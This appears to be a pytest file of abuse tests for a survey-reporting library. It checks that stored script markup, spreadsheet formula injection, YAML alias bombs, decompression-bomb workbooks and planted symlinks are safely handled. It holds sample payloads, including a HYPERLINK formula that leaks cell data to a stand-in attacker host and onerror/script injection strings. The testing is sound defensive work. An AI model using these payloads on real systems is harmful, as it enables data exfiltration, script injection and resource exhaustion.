"""Fault and abuse trials: no data file can run code in a page or a spreadsheet, exhaust the machine or destroy
a report; every failure of the command line is one clear line. Real builds, real files, a real browser."""
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from openpyxl import load_workbook

from sqmlib import labels, SQMReportError, churn, io, outputs, report

from conftest import IMG, ROOT, one_cell_notebook

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


# ---- 1. stored script injection ----------------------------------------------------------------------------
def test_markup_from_data_is_shown_not_run(small_report):
    """The shared report's data hold markup (conftest.markup_dir): every page shows it as text."""
    hostile_report = small_report[0]
    pages = sorted(hostile_report.glob("*.html"))
    assert len(pages) == len(report.report_notebooks()) + 1
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>window.__pwned" not in text, page.name
        assert "<img src=x onerror" not in text, page.name
    gaps_page = (hostile_report / "02_gap_analysis.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in gaps_page  # shown as text
    chromium = shutil.which("chromium")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        sync_playwright = None
    if chromium and sync_playwright:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=chromium, args=["--headless", "--no-sandbox",
                                                                        "--disable-gpu", "--no-first-run",
                                                                        "--disable-background-networking"])
            tab = browser.new_page()
            for page in pages:
                tab.goto(page.as_uri())  # after the load event: every image tried, every inline script run
                tab.wait_for_timeout(50)
                assert tab.evaluate("window.__pwned") is None, f"script from the data ran in {page.name}"
            browser.close()


def test_explorer_tables_escape_markup(markup_dir):
    from sqmlib import explore, serve

    folder = io.load_folder(markup_dir)
    app = serve.App({"survey": explore.SurveyExplorer.from_folder(folder)})
    v = app.view("survey", {"segment": "region", "value": IMG})
    assert "<img src=x" not in v["table"] + v["extra"]
    # the status line and option labels carry the value as it is: the page's script sets them as text
    assert IMG in [o["label"] for o in v["controls"]["value"]["options"]] and IMG in v["status"]
    assert ".status').textContent = v.status" in app.page("") and "opt.textContent = o.label" in app.page("")
    page = app.page("<b>data</b>")
    assert "<b>data</b>" not in page and "&lt;b&gt;data&lt;/b&gt;" in page
    # the mystery-shopping explorer: a region named with markup, stores' visits with the shoppers' comments
    app = serve.App({"mystery": explore.MysteryExplorer(folder)})
    v = app.view("mystery", {"region": IMG})
    assert "<img src=x" not in v["table"] + v["extra"] and IMG in [o["label"] for o in v["controls"]["region"]["options"]]


# ---- 2. formula injection -----------------------------------------------------------------------------------
def test_no_formula_from_data_in_csv_or_excel(tmp_path):
    frame = pd.DataFrame({"customer_id": [FORMULA, "+1-555", "-2", "@SUM(A1)", "000123", "1234567890123456789"],
                          "value": [1.0, 2.0, -3.0, 4.0, 5.0, 6.0]}, index=pd.Index(["=a", "b", "c", "d", "e", "f"]))
    outputs.write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", dtype=str, index_col=0)
    assert back["customer_id"].tolist()[:4] == ["'" + FORMULA, "'+1-555", "'-2", "'@SUM(A1)"]
    assert back.index[0] == "'=a" and back["value"].tolist()[2] == "-3.0"  # numbers stay numbers
    outputs.write_excel({"t": frame}, tmp_path / "t.xlsx")
    ws = load_workbook(tmp_path / "t.xlsx")["t"]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert ws["B2"].value == FORMULA and ws["B6"].value == "000123" and ws["B7"].value == "1234567890123456789"


def test_risk_list_neutralises_ids(small_data, tmp_path):
    d = tmp_path / "data"
    small_data.save(d)
    cust = pd.read_csv(d / "customers.csv", dtype=str, keep_default_na=False)
    first = cust["customer_id"].iloc[0]
    for name in ("customers.csv", "interactions.csv", "survey.csv", "transactions.csv", "campaigns.csv"):
        t = pd.read_csv(d / name, dtype=str, keep_default_na=False)
        t["customer_id"] = t["customer_id"].replace(first, FORMULA)
        t.to_csv(d / name, index=False)
    result = churn.run_churn(io.load_folder(d))
    result.write_files(tmp_path / "out")
    text = (tmp_path / "out" / "risk_list.csv").read_text(encoding="utf-8")
    rows = [ln for ln in text.splitlines() if "HYPERLINK" in ln]
    assert rows and all(ln.startswith("\"'=HYPERLINK") for ln in rows), rows
    ws = load_workbook(tmp_path / "out" / "risk_list.xlsx").active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


# ---- 4 and 5. a report is never replaced by accident ---------------------------------------------------------
def _one_cell_notebook(folder: Path) -> Path:
    """A report notebook that only writes its metrics.json."""
    return one_cell_notebook(folder, 'data_dir: str = ""\nquarter: str = ""\nout_dir: str = ""',
                             "from sqmlib import report\nreport.write_metrics(out_dir, notebook='00_one_cell', "
                             "title='One cell', quarter=quarter)")


def _build_cmd(data, out, *extra):
    notebook = _one_cell_notebook(Path(out).parent / "notebooks")
    code = ("import sys; from sqmlib import report; "
            f"report.build('2026Q3', data_dir={str(data)!r}, out_dir={str(out)!r}, pdf=False, progress=False, "
            f"notebooks=[{str(notebook)!r}]{''.join(extra)}); print('built')")
    return [sys.executable, "-c", code]


def test_concurrent_builds_of_one_quarter(small_dir, tmp_path):
    out = tmp_path / "reports"
    first = subprocess.Popen(_build_cmd(small_dir, out), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(0.5)
    second = subprocess.Popen(_build_cmd(small_dir, out), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    results = [p.communicate(timeout=300) for p in (first, second)]
    built = [r for r in results if "built" in r[0]]
    refused = [r for r in results if "SQMReportError" in r[1]]
    assert len(built) == 1 and len(refused) == 1, results
    assert "already exists" in refused[0][1] or "appeared" in refused[0][1]
    assert sorted(p.name for p in out.iterdir()) == ["2026Q3"] and report.is_report(out / "2026Q3")


def test_force_replaces_only_an_sqm_report(small_dir, tmp_path):
    out = tmp_path / "reports"
    mine = out / "2026Q3"
    mine.mkdir(parents=True)
    (mine / "my_notes.txt").write_text("not a report")
    with pytest.raises(SQMReportError, match="not a report built by sqm"):
        report.build("2026Q3", data_dir=small_dir, out_dir=out, force=True, pdf=False, progress=False, log=lambda *a: None,
                     notebooks=report.report_notebooks()[:1])
    assert (mine / "my_notes.txt").read_text() == "not a report"
    assert sorted(p.name for p in out.iterdir()) == ["2026Q3"]


# ---- 6. the combined workbook keeps text as text ---------------------------------------------------------------
def test_combined_workbook_keeps_values(tmp_path):
    nb = tmp_path / "02_x"
    report.write_tables(nb, {"ids": pd.DataFrame({"id": ["000123", "1234567890123456789", FORMULA],
                                                  "item": ["01", "02", "03"], "n": [1, 2, 3]})})
    name = report.combine_tables(tmp_path, ["02_x"])
    ws = load_workbook(tmp_path / name)["02 ids"]
    values = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    assert values == [["000123", "01", 1], ["1234567890123456789", "02", 2], [FORMULA, "03", 3]]  # no row numbers
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


# ---- 7. the inputs are the same at the end of a build as at its start ------------------------------------------
def test_input_changed_during_a_build_stops_it(small_dir, tmp_path):
    data = tmp_path / "data"
    shutil.copytree(small_dir, data)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("x = 1"),
                nbformat.v4.new_code_cell('data_dir: str = ""  # data\nout_dir: str = ""  # output',
                                          metadata={"tags": ["parameters"]}),
                nbformat.v4.new_code_cell("import json, pathlib\n"
                                          "p = pathlib.Path(data_dir) / 'survey.csv'\n"
                                          "p.write_text(p.read_text() + p.read_text().splitlines()[-1] + '\\n')\n"
                                          "pathlib.Path(out_dir).mkdir(parents=True, exist_ok=True)\n"
                                          "(pathlib.Path(out_dir) / 'metrics.json').write_text(json.dumps({'title': 'x'}))")]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    writer = tmp_path / "01_writer.ipynb"
    nbformat.write(nb, writer)
    out = tmp_path / "reports"
    with pytest.raises(SQMReportError, match=r"input files changed.*survey\.csv"):
        report.build("2026Q3", data_dir=data, out_dir=out, pdf=False, progress=False, log=lambda *a: None, notebooks=[writer])
    assert list(out.iterdir()) == []


# ---- 8. bounded memory and a clear error for hostile inputs -----------------------------------------------------
def _capped(code: str, limit_gb: float = 3.0, timeout: float = 60) -> subprocess.CompletedProcess:
    """Run ``code`` in a fresh interpreter under an address-space cap."""
    def cap():
        limit = int(limit_gb * 2 ** 30)
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    return subprocess.run([sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True,
                          timeout=timeout, preexec_fn=cap)


def _huge_dimension_xlsx(path):
    frame = pd.DataFrame({"respondent_id": ["R1", "R2"], "P01": [5, 6]})
    frame.to_excel(path, index=False)
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                data = data.replace(b'<dimension ref="A1:B3"/>', b'<dimension ref="A1:XFD1048576"/>')
            zout.writestr(item, data)
    tmp.replace(path)


def test_xlsx_declaring_a_huge_sheet(tmp_path):
    path = tmp_path / "survey.xlsx"
    _huge_dimension_xlsx(path)
    t0 = time.time()
    r = _capped(f"from sqmlib import io\ndf, _ = io.read_table({str(path)!r})\nprint(df.shape)")
    assert r.returncode == 0, r.stderr[-500:]
    assert r.stdout.strip() == "(2, 2)" and time.time() - t0 < 30


def test_xlsx_whose_shared_texts_unpack_huge(tmp_path):
    """A small workbook whose shared strings unpack to hundreds of MB (a 1.3 MB file unpacked to 540 MB and ran
    minutes at 3 GB): every compressed part counts against the caps, and the texts have their own, stopped
    before openpyxl reads them (here the cap is lowered to keep the test small; the file is 40x over it)."""
    path = tmp_path / "survey.xlsx"
    plain = tmp_path / "plain.xlsx"
    pd.DataFrame({"respondent_id": [1, 2], "comment": ["a", "b"]}).to_excel(plain, index=False)
    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():  # the shared texts swapped for ones that compress a thousandfold
            data = zin.read(item) if item.filename != "xl/sharedStrings.xml" else (
                "<sst><si><t>" + "very long comment " * 120_000 + "</t></si></sst>").encode()
            zout.writestr(item.filename, data)
    code = ("import sqmlib.io.readers as r\nr.MAX_XLSX_STRINGS = 50_000\nfrom sqmlib import io\n"
            f"io.read_table({str(path)!r})")
    t0 = time.time()
    res = _capped(code)
    assert res.returncode != 0 and "shared texts unpack to" in res.stderr and time.time() - t0 < 30
    assert zipfile.ZipFile(path).getinfo("xl/sharedStrings.xml").file_size > 40 * 50_000


@pytest.mark.parametrize("content, message", [
    ("a: &a ['x','x','x','x','x','x','x','x','x']\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
     "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n",
     "aliases"),
    ("x: " + "[" * 3000 + "]" * 3000 + "\n", "nested"),
])
def test_hostile_instrument_files(tmp_path, content, message):
    path = tmp_path / "instrument.yaml"
    path.write_text(content)
    r = _capped(f"""
        from sqmlib import instruments, SQMDataError
        try:
            instruments.load({str(path)!r})
        except SQMDataError as exc:
            print("ERR", str(exc).splitlines()[1])
        """, limit_gb=1.5, timeout=30)
    assert r.returncode == 0 and r.stdout.startswith("ERR") and message in r.stdout, (r.stdout, r.stderr[-500:])


def test_garbage_survey_stops_within_seconds(tmp_path):
    header = (ROOT / "data" / "sample" / "survey.csv").read_text(encoding="utf-8").splitlines()[0]
    ncol = header.count(",") + 1
    line = ",".join(f"x{k}" for k in range(ncol)) + "\n"
    path = tmp_path / "survey.csv"
    with open(path, "w") as fh:
        fh.write(header + "\n")
        for _ in range(54_000_000 // len(line)):
            fh.write(line)
    t0 = time.time()
    r = _capped(f"""
        from sqmlib import io, SQMDataError
        try:
            io.load_survey({str(path)!r})
        except SQMDataError as exc:
            print("ERR", str(exc).splitlines()[0])
            print(str(exc).splitlines()[1])
        """, limit_gb=2.0, timeout=60)
    seconds = time.time() - t0
    assert r.stdout.startswith("ERR") and "survey.csv" in r.stdout, r.stderr[-500:]
    assert "stopped after checking the first" in r.stdout
    assert seconds < 15, seconds


# ---- 9 and 10. the command line: one clear line, nothing half-written left behind ----------------------------
def _sqm(*args, **kw):
    return subprocess.run([sys.executable, "-m", "sqmlib.cli", *args], capture_output=True, text=True, **kw)


def _one_line(stderr: str) -> str:
    lines = [ln for ln in stderr.splitlines() if ln.strip() and "Kernel is running" not in ln
             and not ln.startswith("[")]
    assert len(lines) == 1, stderr[-2000:]
    assert "Traceback" not in stderr
    return lines[0]


def test_cli_errors_are_one_line(small_dir, tmp_path, capsys):
    from sqmlib import cli

    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    assert cli.main(["report", "--data", str(small_dir), "--out", str(a_file), "--no-progress"]) == 1
    assert "is a file" in _one_line(capsys.readouterr().err)
    assert cli.main(["report", "--data", str(small_dir), "--out", "/proc/sqm-reports", "--no-progress"]) == 1
    assert "cannot write to the reports folder" in _one_line(capsys.readouterr().err)
    # a failure inside a notebook, through the command as a user runs it
    tiny = tmp_path / "tiny"
    tiny.mkdir()
    lines = (small_dir / "survey.csv").read_text(encoding="utf-8").splitlines()
    (tiny / "survey.csv").write_text("\n".join(lines[:13]) + "\n", encoding="utf-8")
    r = _sqm("report", "--data", str(tiny), "--out", str(tmp_path / "r"), "--no-progress", timeout=300)
    assert r.returncode == 1 and re.search(r"only \d+ respondents", _one_line(r.stderr))
    assert list((tmp_path / "r").iterdir()) == []


def _as_from_a_terminal():
    """The child starts as a command typed in a terminal would: SIGINT and SIGTERM neither ignored nor blocked
    (a test worker may have inherited an ignored SIGINT from the process that started it, and a child inherits
    it in turn: Python then never turns Ctrl+C into KeyboardInterrupt)."""
    for sig in (signal.SIGINT, signal.SIGTERM):
        signal.signal(sig, signal.SIG_DFL)
    signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGINT, signal.SIGTERM})


@pytest.mark.parametrize("sig, code, word", [(signal.SIGTERM, 143, "stopped"), (signal.SIGINT, 130, "interrupted")])
def test_signals_leave_nothing_behind(small_dir, tmp_path, sig, code, word):
    out = tmp_path / "reports"
    proc = subprocess.Popen([sys.executable, "-m", "sqmlib.cli", "report", "--data", str(small_dir), "--out",
                             str(out), "--no-progress", "--no-pdf"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, preexec_fn=_as_from_a_terminal)
    deadline = time.time() + 120
    while not (out.exists() and any(p.name.startswith(".2026Q3.building") for p in out.iterdir())):
        assert time.time() < deadline and proc.poll() is None
        time.sleep(0.2)
    time.sleep(2)  # a notebook is running now
    status = Path(f"/proc/{proc.pid}/status")
    masks = [ln for ln in status.read_text().splitlines() if ln.startswith(("SigBlk", "SigIgn"))] \
        if status.exists() else []
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=20)  # promptly: the notebooks running side by side stop with it
    assert proc.returncode == code, (proc.returncode, masks, err[-300:])
    assert proc.returncode == code and word in _one_line(err)
    assert list(out.iterdir()) == []


def test_stale_building_folders_are_removed(small_dir, tmp_path):
    out = tmp_path / "reports"
    stale = out / ".2026Q2.building-999999999"
    stale.mkdir(parents=True)
    (stale / "half.ipynb").write_text("{}")
    alive = out / f".2026Q1.building-{os.getppid()}"  # a running process's folder stays
    alive.mkdir()
    report.build("2026Q3", data_dir=small_dir, out_dir=out, pdf=False, progress=False, log=lambda *a: None,
                 notebooks=[_one_cell_notebook(tmp_path / "notebooks")])
    assert sorted(p.name for p in out.iterdir()) == [alive.name, "2026Q3"]


def test_workbooks_read_well(tmp_path):
    """Frozen header, autofilter, column widths and number formats (shares as percentages, counts with
    separators, decimals with three places) in each notebook's workbook and in the combined one; the cells keep
    their full precision."""
    nb = tmp_path / "02_x"
    frame = pd.DataFrame({"item": ["01", "02"], "n": [1234, 56], "share_below": [0.1234, 0.5],
                          "p_value": [0.000123, 0.5], "gap": [-0.987654, 0.1]})
    report.write_tables(nb, {"gaps": frame})
    name = report.combine_tables(tmp_path, ["02_x"])
    for path, sheet in ((nb / "tables.xlsx", "gaps"), (tmp_path / name, "02 gaps")):
        ws = load_workbook(path)[sheet]
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref == ws.dimensions
        header = {c.value: c.column_letter for c in ws[1]}
        # headers are labels (the identifiers are listed on the last sheet)
        assert {"customers below their expectation", "gap (P − E)", "p", "n", "item"} <= set(header)
        header.update({k: header[labels.label(k, "en")] for k in ("share_below", "p_value", "gap")})
        fmt = {h: ws[f"{col}2"].number_format for h, col in header.items() if h}
        assert fmt["n"] == "#,##0" and fmt["share_below"] == "0.0%" and fmt["p_value"] == "0.000"
        assert fmt["gap"] == "0.000" and ws[f"{header['gap']}2"].value == pytest.approx(-0.987654, abs=1e-12)
        assert ws[f"{header['item']}2"].value == "01"
        assert ws.column_dimensions[header["share_below"]].width >= len("customers below their expectation")
    key = pd.read_excel(nb / "tables.xlsx", sheet_name="columns")
    assert {"share_below", "p_value", "gap"} <= set(key["identifier"])


# ---- round three: private files, writes that never follow a link ---------------------------------------------
def test_private_folders_refuse_planted_links_and_open_folders(tmp_path, monkeypatch):
    from sqmlib import private

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    mine = private.private_dir("logs")
    assert mine == tmp_path / "cache" / "sqm" / "logs" and (mine.stat().st_mode & 0o777) == 0o700
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "cache" / "sqm" / "fonts").symlink_to(elsewhere)  # planted by someone else
    fonts = private.private_dir("fonts")
    assert fonts.parent != tmp_path / "cache" / "sqm" and (fonts.stat().st_mode & 0o777) == 0o700
    shared = tmp_path / "cache" / "sqm" / "failed-notebooks"
    shared.mkdir(mode=0o777)
    os.chmod(shared, 0o777)
    assert private.private_dir("failed-notebooks") != shared  # a folder others may enter is not used


def test_failed_notebook_copies_are_private_and_never_follow_a_link(tmp_path, monkeypatch):
    from sqmlib import private
    from sqmlib.runner import folders

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setattr(private.time, "strftime", lambda fmt, *a: "20261207-120000")
    executed = tmp_path / "02_gap_analysis.ipynb"
    executed.write_text('{"answers": "survey"}', encoding="utf-8")
    kept = folders._keep_failed(executed)
    assert kept.read_text(encoding="utf-8") == '{"answers": "survey"}' and (kept.stat().st_mode & 0o777) == 0o600
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    kept.unlink()
    kept.symlink_to(victim)  # the next copy's exact name, planted
    assert folders._keep_failed(executed) is None and victim.read_text(encoding="utf-8") == "precious"
    kept.unlink()
    old = kept.parent / "old.ipynb"
    old.write_text("{}", encoding="utf-8")
    os.utime(old, (time.time() - 8 * 86400,) * 2)
    folders._keep_failed(executed)
    assert not old.exists()  # kept a week, then removed


def test_instrument_draft_is_atomic_and_never_writes_through_a_link(tmp_path, monkeypatch):
    from sqmlib import SQMError
    from sqmlib.io import draft

    survey = tmp_path / "survey.csv"
    survey.write_text("respondent_id,P01,P02,P03\n1,5,4,3\n2,4,4,2\n3,3,5,4\n", encoding="utf-8")
    victim = tmp_path / "other" / "instrument.yaml"
    victim.parent.mkdir()
    out = tmp_path / "instrument.yaml"
    out.symlink_to(victim)  # dangling: a plain write would create the file in the other folder
    with pytest.raises(SQMError, match="exists"):
        draft.write_draft(survey, out)
    assert not victim.exists()
    draft.write_draft(survey, out, force=True)
    assert not out.is_symlink() and "respondent_id" in out.read_text(encoding="utf-8") and not victim.exists()
    out.write_text("hand: edited\n", encoding="utf-8")

    def full(*a):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError):
        draft.write_draft(survey, out, force=True)
    assert out.read_text(encoding="utf-8") == "hand: edited\n"  # the old file whole
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def _fake_report(folder: Path, text: str) -> Path:
    folder.mkdir(parents=True)
    (folder / "provenance.json").write_text("{}", encoding="utf-8")
    (folder / "index.html").write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize("where", ["mkdir", "rename", "interrupt"])
def test_force_swap_keeps_the_old_report_on_any_failure(tmp_path, monkeypatch, where):
    """--force moves the old report aside, then puts the new one in place: a full disk at either step, or
    Ctrl+C between them, puts the old report back whole (nothing left hidden for the next build to delete)."""
    from sqmlib.runner import folders

    final = _fake_report(tmp_path / "2026Q3", "old")
    new = _fake_report(tmp_path / ".2026Q3.building-1", "new")
    error = KeyboardInterrupt() if where == "interrupt" else OSError(28, "No space left on device")
    if where == "mkdir":
        real = Path.mkdir
        monkeypatch.setattr(Path, "mkdir", lambda self, *a, **k: (_ for _ in ()).throw(error)
                            if self == final else real(self, *a, **k))
    else:
        real_rename = os.rename
        monkeypatch.setattr(folders.os, "rename", lambda a, b: (_ for _ in ()).throw(error)
                            if Path(a) == new and Path(b) == final else real_rename(a, b))
    with pytest.raises(type(error)):
        folders._swap_into_place(new, final, force=True)
    assert (final / "index.html").read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == [".2026Q3.building-1", "2026Q3"]


def test_stale_replaced_folders_are_restored_or_removed_only_when_finished(tmp_path):
    """A build killed between the two renames leaves the old report aside: the next build puts it back; it is
    deleted only when a finished swap put a new report in place."""
    from sqmlib.runner import folders

    aside = _fake_report(tmp_path / ".2026Q3.replaced-999999999", "old")
    assert folders.remove_stale_builds(tmp_path) == []
    assert (tmp_path / "2026Q3" / "index.html").read_text(encoding="utf-8") == "old" and not aside.exists()
    leftover = _fake_report(tmp_path / ".2026Q3.replaced-999999998", "older")
    assert folders.remove_stale_builds(tmp_path) == [leftover] and not leftover.exists()  # the swap had finished
    odd = _fake_report(tmp_path / ".2026Q2.replaced-999999997", "kept")
    (tmp_path / "2026Q2").write_text("not a report", encoding="utf-8")
    assert folders.remove_stale_builds(tmp_path) == [] and odd.exists()  # neither: left for a person


def test_invisible_characters_are_removed_and_reported(tmp_path):
    """A NUL byte no longer cuts "No\\0rth" to "No"; a zero-width space no longer makes a second "North"; both
    are removed and the data audit says where. A UTF-16 file without a byte-order mark reads as UTF-16."""
    from sqmlib import audit

    path = tmp_path / "survey.csv"
    rows = ["respondent_id,region,P01", "1,No\x00rth,5", "2,North\u200b,4", "3,South,3"]
    path.write_bytes("\n".join(rows).encode("utf-8"))
    df, src = io.read_table(path)
    assert df["region"].tolist() == ["North", "North", "South"]
    assert src.cleaned == {"region": {"cells": 2, "rows": [2, 3], "characters": ["U+0000", "U+200B"]}}
    inst = tmp_path / "instrument.yaml"
    inst.write_text("name: tiny\nscale: {min: 1, max: 5}\nblocks: {P: {label: perception}}\n"
                    "dimensions: {all: [\"01\"]}\nitems: {\"01\": Staff are friendly}\n"
                    "columns: {respondent_id: {type: id}, region: {type: category, role: segment}}\n",
                    encoding="utf-8")
    survey = io.load_survey(path, inst, errors="coerce")
    assert survey.attrs["sqm"]["cleaned"]["region"]["cells"] == 2
    result = audit.run_audit(survey, inst)
    assert any("U+200B zero-width space" in f and "rows 2, 3" in f for f in result.findings()), result.findings()
    (tmp_path / "utf16.csv").write_bytes("respondent_id,region\n1,North\n2,South\n".encode("utf-16-le"))
    df, src = io.read_table(tmp_path / "utf16.csv")
    assert src.encoding == "utf-16-le" and df["region"].tolist() == ["North", "South"]


def test_wide_files_read_in_linear_time_or_stop_at_once(tmp_path):
    """A header of thousands of columns read in time linear in their number (it was quadratic: 20k columns took
    14 s); beyond 5,000 fields on the first line, or a 1 MB file without line breaks, one line at once."""
    def timed(n: int) -> float:
        path = tmp_path / f"wide{n}.csv"
        path.write_text(",".join(f"col_{i}" for i in range(n)) + "\n" + ",".join("1" * n) + "\n", encoding="utf-8")
        t0 = time.perf_counter()
        df, _ = io.read_table(path)
        assert df.shape == (1, n)
        return time.perf_counter() - t0

    small, large = timed(1000), timed(4000)
    assert large < 10 * max(small, 0.05)  # four times the columns: far from sixteen times the time
    one_line = tmp_path / "one_line.csv"
    one_line.write_text(",".join("x" * 500_000), encoding="utf-8")
    t0 = time.perf_counter()
    with pytest.raises(io.SQMDataError, match="fields"):
        io.read_table(one_line)
    assert time.perf_counter() - t0 < 5


def test_thousands_of_segment_values_collapse_to_the_most_frequent(tmp_path):
    """5,000 regions made pages and models explode (minutes, gigabytes): a segment column keeps its 29 most
    frequent values and "(other)", and the data audit says so."""
    from sqmlib import audit

    inst = tmp_path / "instrument.yaml"
    inst.write_text("name: tiny\nscale: {min: 1, max: 5}\nblocks: {P: {label: perception}}\n"
                    "dimensions: {all: [\"01\"]}\nitems: {\"01\": Staff are friendly}\n"
                    "columns: {respondent_id: {type: id}, region: {type: category, role: segment}}\n",
                    encoding="utf-8")
    regions = [f"R{k:04d}" for k in range(5000)] + ["R0001"] * 50 + ["R0002"] * 40
    path = tmp_path / "survey.csv"
    pd.DataFrame({"respondent_id": range(len(regions)), "region": regions,
                  "P01": [(k % 5) + 1 for k in range(len(regions))]}).to_csv(path, index=False)
    t0 = time.perf_counter()
    survey = io.load_survey(path, inst)
    assert time.perf_counter() - t0 < 30
    counts = survey["region"].value_counts()
    assert len(counts) == 30 and counts["(other)"] == 5000 - 29 and counts["R0001"] == 51
    assert survey.attrs["sqm"]["collapsed"]["region"] == {"values": 5000, "kept": 29, "respondents_other": 4971}
    findings = audit.run_audit(survey, inst).findings()
    assert any("5,000 values" in f and "(other)" in f for f in findings), findings


def test_pdf_fonts_come_from_a_private_folder(tmp_path, monkeypatch):
    """The fontconfig the PDF printer uses is in this user's private folder; a folder planted at the old shared
    name, or a planted link at the new one, is never adopted (a swapped font could change printed digits)."""
    from sqmlib.runner import pages

    if pages._font_path() is None:
        pytest.skip("no bundled CJK font")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    env = pages._fontconfig_env()
    conf = Path(env["FONTCONFIG_FILE"])
    assert conf.parent == tmp_path / "cache" / "sqm" / "fonts" and (conf.parent.stat().st_mode & 0o777) == 0o700
    planted = tmp_path / "planted"
    planted.mkdir()
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "other"))
    (tmp_path / "other" / "sqm").mkdir(parents=True, mode=0o700)
    (tmp_path / "other" / "sqm" / "fonts").symlink_to(planted)
    conf = Path(pages._fontconfig_env()["FONTCONFIG_FILE"])
    assert planted not in conf.parents and not any(planted.iterdir())


def test_logs_are_private_files(tmp_path, monkeypatch):
    """The kernels' log and an unexpected error's traceback go to this user's private folder, the traceback in a
    new file readable by the user only (they were fixed names in the shared temporary folder)."""
    from sqmlib import cli
    from sqmlib.runner import logs

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    folder = tmp_path / "cache" / "sqm" / "logs"
    assert logs.kernel_log() == folder / "kernels.log"
    try:
        raise RuntimeError("boom")
    except RuntimeError:
        log = cli._write_log("report")
    assert log.parent == folder and "boom" in log.read_text(encoding="utf-8")
    assert (log.stat().st_mode & 0o777) == 0o600 and (folder.stat().st_mode & 0o777) == 0o700
